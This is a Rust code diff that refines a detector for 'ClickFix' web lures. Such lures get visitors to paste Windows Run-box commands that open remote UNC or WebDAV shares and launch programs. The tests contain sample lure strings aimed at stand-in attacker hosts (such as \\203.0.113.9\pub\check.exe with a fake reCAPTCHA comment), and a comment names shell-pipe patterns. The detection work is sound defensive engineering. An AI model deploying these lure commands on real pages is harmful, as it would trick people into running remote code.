@@ -315,12 +315,69 @@ fn unc_reaches_out(flat: &str) -> bool {
         let hex = host.get(..2).is_some_and(|p| p.eq_ignore_ascii_case("0x"))
             && host.len() > 2
             && host[2..].bytes().all(|b| b.is_ascii_hexdigit());
-        host.is_empty()
-            || host.contains('@')
-            || hex
-            || host.bytes().all(|b| b.is_ascii_digit())
-            || host.contains('.') && !INTRANET.iter().any(|s| host.ends_with(s))
+        // No host is no share; a private or loopback address is the local network's.
+        !host.is_empty()
+            && !private_ip(host)
+            && (host.contains('@')
+                || hex
+                || host.bytes().all(|b| b.is_ascii_digit())
+                || host.contains('.') && !INTRANET.iter().any(|s| host.ends_with(s)))
     })
+}
+
+/// The host of a UNC path (`\\host\share` → `host`, `\\host@SSL\…` → `host@ssl`).
+fn share_host(path: &str) -> &str {
+    path.get(2..)
+        .unwrap_or("")
+        .split(['\\', '/', ' '])
+        .next()
+        .unwrap_or("")
+}
+
+/// A share host that is an IP address (`203.0.113.9`, `3405803785`, `0xcb007109`).
+fn ip_host(host: &str) -> bool {
+    let h = host.split('@').next().unwrap_or("");
+    !h.is_empty()
+        && (h.bytes().all(|b| b.is_ascii_digit() || b == b'.')
+            || h.starts_with("0x") && h.len() > 2 && h[2..].bytes().all(|b| b.is_ascii_hexdigit())
+            || h.ends_with(".ipv6-literal.net"))
+}
+
+/// An address no web page's author controls: RFC 1918, loopback, link-local, CGNAT, `0/8`;
+/// for IPv6 (`fd00--1.ipv6-literal.net`) unique-local, link-local and loopback.
+fn private_ip(host: &str) -> bool {
+    let h = host.split('@').next().unwrap_or("");
+    if let Some(v6) = h.strip_suffix(".ipv6-literal.net") {
+        let v6 = v6.trim_start_matches(['0', '-']);
+        return v6.is_empty()
+            || v6 == "1"
+            || ["fc", "fd", "fe8", "fe9", "fea", "feb"]
+                .iter()
+                .any(|p| v6.starts_with(p));
+    }
+    // Dotted quads, or one decimal number (`\\167772161`); a hex number is left to be public.
+    let mut n: u64 = 0;
+    let mut parts = 0;
+    for p in h.split('.') {
+        let v = p
+            .bytes()
+            .try_fold(0u64, |v, b| {
+                b.is_ascii_digit().then(|| v * 10 + u64::from(b - b'0'))
+            })
+            .filter(|v| p.len() <= 10 && (parts == 0 || *v < 256));
+        let Some(v) = v else { return false };
+        n = (n << 8) | v;
+        parts += 1;
+    }
+    if parts != 1 && parts != 4 || n > u64::from(u32::MAX) {
+        return false;
+    }
+    let [a, b, ..] = (n as u32).to_be_bytes();
+    matches!(a, 0 | 10 | 127)
+        || a == 172 && (16..32).contains(&b)
+        || a == 192 && b == 168
+        || a == 169 && b == 254
+        || a == 100 && (64..128).contains(&b)
 }
 
 /// A shell follows a pipe (`| sh`, `|sudo bash -s`, `| python3`).
@@ -484,18 +541,12 @@ fn shapes(flat: &str) -> Vec<Shape> {
         .first()
         .is_some_and(|t| matches!(program(t), "explorer" | "start"));
     let path = toks.get(usize::from(opener)).copied().unwrap_or("");
-    let host = path
-        .get(2..)
-        .unwrap_or("")
-        .split(['\\', '/'])
-        .next()
-        .unwrap_or("");
-    let lure_share = host.contains('@')
-        || has(path, "davwwwroot")
-        || host.bytes().all(|b| b.is_ascii_digit() || b == b'.')
-        || RUNNABLE.iter().any(|e| path.ends_with(e));
+    let host = share_host(path);
+    let runnable = RUNNABLE.iter().any(|e| path.ends_with(e));
+    let lure_share = host.contains('@') || has(path, "davwwwroot") || ip_host(host) || runnable;
+    // The Run box passes what follows a program to it: `\\ip\pub\check.exe # I am not a robot`.
     if path.starts_with("\\\\")
-        && toks.len() <= 1 + usize::from(opener)
+        && (toks.len() <= 1 + usize::from(opener) || runnable)
         && lure_share
         && unc_reaches_out(path)
     {
@@ -858,7 +909,13 @@ impl PageHits {
 
     /// The page shows the command it copies (a code block next to its copy button): what the
     /// person sees is what they paste. Short commands prove nothing.
+    /// A share path is compared without its trailing separator, however short it is.
     fn shows(&self, command: &Command) -> bool {
+        if command.shapes.contains(&Shape::UncOpen) {
+            let path = command.flat.find("\\\\").map_or("", |i| &command.flat[i..]);
+            let path = path.trim_end_matches(['\\', '/']);
+            return path.len() > 2 && has(&self.flat, path);
+        }
         command.flat.len() >= 16 && has(&self.flat, &command.flat)
     }
 
@@ -1081,11 +1138,21 @@ fn assess_command(command: Command, page: &PageHits) -> Option<ClickFix> {
     // An IT page that gives a share path for the Run box shows it.
     let shown = page.shows(&command);
     let unc_only = command.shapes.iter().all(|s| *s == Shape::UncOpen);
+    // Without a pretext only a share no IT page gives is a lure: WebDAV on another site or a
+    // public IP. A named host (the organisation's software share) or the page's own WebDAV
+    // share is what IT pages copy.
+    let host = command
+        .flat
+        .find("\\\\")
+        .map_or("", |i| share_host(&command.flat[i..]));
+    let dav = host.contains('@') || has(&command.flat, "davwwwroot");
+    let elsewhere = registrable(host.split('@').next().unwrap_or("")) != page.site;
+    let unc_lure = dav && elsewhere || ip_host(host);
     let windows_run = run_dialog
         && command.windows_payload()
         && !docs
         && !help
-        && !(unc_only && shown && !page_pretext);
+        && !(unc_only && (shown || !unc_lure) && !page_pretext && !command.comment_pretext);
     // The Mac variant: Terminal and paste steps are what developer docs say too ("paste this in
     // Terminal"); a strong shape outside install docs makes them ClickFix. `curl … | sh` only
     // with a story (a browser update, a failed check; not docs' "verification steps") AND the
@@ -1791,7 +1858,6 @@ mod tests {
             r"\\cdn-docs.example@SSL\DavWWWRoot\verify\check.cmd",
             r"explorer.exe \\drive-share.example@SSL\share",
             r"explorer \\203.0.113.9\public\fax",
-            r"\\files.example.net\pub\view.lnk",
         ] {
             assert!(judged(clip, steps), "{clip}");
             assert!(
@@ -1799,6 +1865,14 @@ mod tests {
                 "{clip}"
             );
         }
+        // A program on a named host is a lure with a human check, an IT share without one.
+        let lnk = r"\\files.example.net\pub\view.lnk";
+        assert!(judged(lnk, steps));
+        assert!(!judged(lnk, "Press Win + R, paste and press Enter."));
+        // Arguments or a comment after the program still run it.
+        let arg = r"\\203.0.113.9\pub\check.exe # I am not a robot - reCAPTCHA ID 4471";
+        assert_eq!(shapes_of(arg), [Shape::UncOpen]);
+        assert!(judged(arg, steps));
         // A printer or a folder on a named host, an intranet share, or a path the page shows.
         for clip in [
             r"\\print01.corp.example\Floor3",
@@ -1815,6 +1889,62 @@ mod tests {
             dav,
             &format!("To open the share, press Win + R, paste the path and press Enter.\n{dav}")
         ));
+    }
+
+    #[test]
+    fn it_pages_copy_their_own_shares() {
+        let on = |clip: &str, text: &str, url: &str| {
+            assess(clip, &PageHits::new([text]).on(url)).is_some()
+        };
+        let run = "Press Win + R, paste the path (Ctrl + V) and press Enter.";
+        for (clip, url) in [
+            // A private address is the local network's.
+            (r"\\10.20.30.40\scans", "https://helpdesk.corp.example/"),
+            (
+                r"\\192.168.1.20\pub\setup.exe",
+                "https://helpdesk.corp.example/",
+            ),
+            (
+                r"\\2886729729\pub\setup.exe",
+                "https://helpdesk.corp.example/",
+            ),
+            (
+                r"\\fd00--1.ipv6-literal.net\pub\setup.exe",
+                "https://it.example/",
+            ),
+            // The organisation's own hosts, and the page's own WebDAV share.
+            (
+                r"\\software.corp.example\deploy\vpn\setup.exe",
+                "https://it.corp.example/",
+            ),
+            (
+                r"\\dc01.corp.example\netlogon\mapdrives.bat",
+                "https://it.corp.example/",
+            ),
+            (
+                r"\\files.uni.example@SSL\DavWWWRoot\dept\physics",
+                "https://intranet.uni.example/",
+            ),
+            // No host is no share.
+            (r"\\\pub", "https://cdn-check.example/"),
+        ] {
+            assert!(!on(clip, run, url), "{clip}");
+        }
+        // A kit's share: WebDAV on another site, a public IP, or any share with a human check.
+        let check = "Verify you are human. Press Windows + R, press Ctrl + V, press Enter.";
+        for clip in [
+            r"\\cdn-docs.example@SSL\DavWWWRoot\verify\check.cmd",
+            r"\\203.0.113.9\pub\check.cmd",
+        ] {
+            assert!(on(clip, run, "https://it.corp.example/"), "{clip}");
+        }
+        let own = r"\\software.corp.example\deploy\check.cmd";
+        assert!(on(own, check, "https://corp.example/"));
+        // A shown share counts as shown however short, with or without its trailing `\`.
+        for clip in [r"\\203.0.113.5\scan", r"\\203.0.113.5\scan\"] {
+            let text = format!("{run}\n\\\\203.0.113.5\\scan");
+            assert!(!on(clip, &text, "https://it.example/"), "{clip}");
+        }
     }
 
     #[test]
